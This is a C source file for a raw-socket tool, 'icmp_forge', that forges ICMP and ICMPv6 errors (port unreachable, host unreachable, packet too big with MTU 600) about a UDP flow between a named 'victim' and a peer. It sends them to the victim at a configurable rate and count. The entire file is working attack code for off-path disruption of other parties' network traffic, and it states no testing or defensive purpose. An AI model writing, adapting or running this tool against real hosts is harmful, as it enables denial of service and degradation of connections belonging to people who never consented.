/* Forges ICMP errors about a UDP flow that is not ours, as anyone on the path can. Needs root (raw socket).
 *
 *   icmp_forge KIND VICTIM PORT PEER PORT RATE COUNT
 *
 * KIND: port (port unreachable), host (host unreachable), frag (packet too big, MTU 600); IPv4 or IPv6 by VICTIM.
 * Each message quotes a packet VICTIM:PORT -> PEER:PORT, with 1,372 bytes of UDP payload. Prints how many left. */
#include <arpa/inet.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { QUOTED_UDP_LEN = 1380, FORGED_MTU = 600 };

static void put16(uint8_t *at, unsigned value) {
  at[0] = (uint8_t)(value >> 8);
  at[1] = (uint8_t)value;
}

static unsigned checksum(const uint8_t *bytes, int len) { /* RFC 1071 */
  uint32_t sum = 0;
  for (int i = 0; i < len; i += 2) sum += (uint32_t)bytes[i] << 8 | (i + 1 < len ? bytes[i + 1] : 0);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}

static void put_udp(uint8_t *at, int from_port, int to_port) {
  put16(at, (unsigned)from_port);
  put16(at + 2, (unsigned)to_port);
  put16(at + 4, QUOTED_UDP_LEN);
}

static int build4(uint8_t *out, const char *kind, struct in_addr victim, int port, struct in_addr peer, int peer_port) {
  out[0] = 3; /* destination unreachable, RFC 792 */
  out[1] = !strcmp(kind, "port") ? 3 : !strcmp(kind, "host") ? 1 : 4;
  if (out[1] == 4) put16(out + 6, FORGED_MTU);
  uint8_t *ip = out + 8;
  ip[0] = 0x45;
  put16(ip + 2, 20 + QUOTED_UDP_LEN);
  put16(ip + 6, 0x4000);
  ip[8] = 63;
  ip[9] = IPPROTO_UDP;
  memcpy(ip + 12, &victim, 4);
  memcpy(ip + 16, &peer, 4);
  put16(ip + 10, checksum(ip, 20));
  put_udp(ip + 20, port, peer_port);
  put16(out + 2, checksum(out, 36));
  return 36;
}

static int build6(uint8_t *out, const char *kind, struct in6_addr victim, int port, struct in6_addr peer, int peer_port) {
  int too_big = !strcmp(kind, "frag");
  out[0] = too_big ? 2 : 1; /* RFC 4443; the kernel fills in the checksum */
  out[1] = too_big ? 0 : !strcmp(kind, "port") ? 4 : 3;
  if (too_big) put16(out + 6, 1280);
  uint8_t *ip = out + 8;
  ip[0] = 0x60;
  put16(ip + 4, QUOTED_UDP_LEN);
  ip[6] = IPPROTO_UDP;
  ip[7] = 63;
  memcpy(ip + 8, &victim, 16);
  memcpy(ip + 24, &peer, 16);
  put_udp(ip + 40, port, peer_port);
  return 56;
}

int main(int argc, char **argv) {
  if (argc != 8) { fprintf(stderr, "usage: icmp_forge KIND VICTIM PORT PEER PORT RATE COUNT\n"); return 2; }
  struct sockaddr_in v4 = { .sin_family = AF_INET };
  struct sockaddr_in6 v6 = { .sin6_family = AF_INET6 };
  struct in_addr peer4;
  struct in6_addr peer6;
  int is6 = strchr(argv[2], ':') != NULL;
  int ok = is6 ? inet_pton(AF_INET6, argv[2], &v6.sin6_addr) & inet_pton(AF_INET6, argv[4], &peer6)
               : inet_pton(AF_INET, argv[2], &v4.sin_addr) & inet_pton(AF_INET, argv[4], &peer4);
  long rate = atol(argv[6]), count = atol(argv[7]), sent = 0;
  if (!ok || rate <= 0 || rate > 1000000) { fprintf(stderr, "icmp_forge: bad address or rate\n"); return 2; }
  uint8_t message[64] = { 0 };
  int len = is6 ? build6(message, argv[1], v6.sin6_addr, atoi(argv[3]), peer6, atoi(argv[5]))
                : build4(message, argv[1], v4.sin_addr, atoi(argv[3]), peer4, atoi(argv[5]));
  int fd = socket(is6 ? AF_INET6 : AF_INET, SOCK_RAW, is6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP);
  if (fd < 0) { perror("icmp_forge: raw socket"); return 1; }
  const struct sockaddr *to = is6 ? (struct sockaddr *)&v6 : (struct sockaddr *)&v4;
  struct timespec next;
  clock_gettime(CLOCK_MONOTONIC, &next);
  for (long i = 0; i < count; i++) {
    if (sendto(fd, message, (size_t)len, 0, to, is6 ? sizeof v6 : sizeof v4) == len) sent++;
    next.tv_nsec += 1000000000 / rate;
    if (next.tv_nsec >= 1000000000) { next.tv_nsec -= 1000000000; next.tv_sec++; }
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
  }
  printf("%ld\n", sent);
  return 0;
}
